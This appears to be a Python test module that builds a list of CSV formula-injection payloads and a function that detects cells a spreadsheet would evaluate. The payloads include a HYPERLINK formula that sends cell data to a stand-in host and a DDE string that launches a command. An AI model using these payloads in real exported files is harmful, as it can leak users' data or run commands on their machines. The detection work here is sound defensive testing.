"""Two hundred ways to write a formula into a note, and what a spreadsheet makes of a table."""

from __future__ import annotations

import csv
import io
import unicodedata
from itertools import product

BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("//x.example?"&A1,"Click")',
    "cmd|' /C calc'!A0",
)
BEFORE = ("", " ", "\t", "\n", "\r", '"', "'", "\ufeff", "\u00a0", "\u200b", "\u3000")
MARKS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66", "\ufe63")
INSIDE = ("so; {}", "so, {}", "so\n{}", "so\t{}", 'so;"{}', "so;\u200b {}", ";;{}", '"; {}')

PAYLOADS = [
    *(before + mark + BODIES[0] for before, mark in product(BEFORE, MARKS)),
    *(f"={body}" for body in BODIES[1:]),
    *(text.format(mark + body) for text in INSIDE for mark, body in product("=+@", BODIES[:3])),
    "=-1",
    "==1",
    "=\t1",
    "@@1",
]


def computed(table: str) -> list[str]:
    """The cells that a spreadsheet would compute."""
    rows = csv.reader(io.StringIO(table, newline=""))
    return [cell for row in rows for cell in row if _is_formula(cell)]


def _is_formula(cell: str) -> bool:
    """Blanks, quotes and what cannot be seen are skipped; an apostrophe makes it text."""
    for char in cell:
        if char == "'":
            return False
        if not (char.isspace() or char == '"' or unicodedata.category(char) in ("Cf", "Cc")):
            return unicodedata.normalize("NFKC", char) in ("=", "+", "-", "@", "\u2212")
    return False
